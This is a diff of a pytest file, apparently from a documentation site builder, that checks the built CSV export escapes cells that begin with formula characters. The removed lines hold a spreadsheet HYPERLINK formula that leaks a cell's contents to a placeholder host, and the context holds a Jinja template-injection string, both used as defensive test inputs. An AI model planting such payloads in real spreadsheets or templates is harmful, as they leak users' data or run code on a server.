@@ -14,7 +14,7 @@ from pathlib import Path
 
 import pytest
 
-from helpers import build_site, copy_project
+from helpers import FORMULAS, build_site, copy_project
 
 TOKEN = "ghp_not-a-real-token-0000"
 WALK = "{{ ''.__class__.__mro__[1].__subclasses__()|length }}"
@@ -68,26 +68,14 @@ def test_a_missing_snippet_fails_the_build(project, tmp_path):
     assert f"docs/embed.md:{line + 1}:8: the snippet 'fastapi_app/no_such_file.py' is not a file in includes/ or examples/" in result.stderr
 
 
-FORMULAS = ['=HYPERLINK("https://example.invalid/?leak="&A1,"More")', "+1 to the other", "-1 against it", "@SUM(A1:A9)"]
-
-
-def test_the_built_csv_export_starts_no_cell_with_a_formula(project, tmp_path, guide):
-    criteria = project / "data" / "criteria.yml"
-    text = criteria.read_text(encoding="utf-8")
-    for criterion, formula in zip(guide.criteria, FORMULAS):
-        verdict = criterion.assessments[guide.frameworks[0].id].verdict
-        assert f"verdict: {verdict}\n" in text
-        text = text.replace(f"verdict: {verdict}\n", f"verdict: '{formula.replace(chr(39), chr(39) * 2)}'\n", 1)
-    criteria.write_text(text, encoding="utf-8")
-    result = build_site(project, tmp_path / "site")
-    assert result.returncode == 0, result.stderr
-    raw = (tmp_path / "site" / "exports" / "comparison.csv").read_text(encoding="utf-8")
+def test_the_built_csv_export_starts_no_cell_with_a_formula(hostile_site):
+    raw = (hostile_site.site / "exports" / "comparison.csv").read_text(encoding="utf-8")
     rows = list(csv.DictReader(io.StringIO(raw, newline="")))
     verdicts = {row["verdict"] for row in rows}
     assert {"'" + formula for formula in FORMULAS} <= verdicts  # before: =HYPERLINK(...) as written
     for row in csv.reader(io.StringIO(raw, newline="")):
         assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for cell in row)
-    page = (tmp_path / "site" / "comparison" / "index.html").read_text(encoding="utf-8")
+    page = (hostile_site.site / "comparison" / "index.html").read_text(encoding="utf-8")
     assert "@SUM(A1:A9)" in page and "'@SUM" not in page  # only the CSV carries the quote
 
 
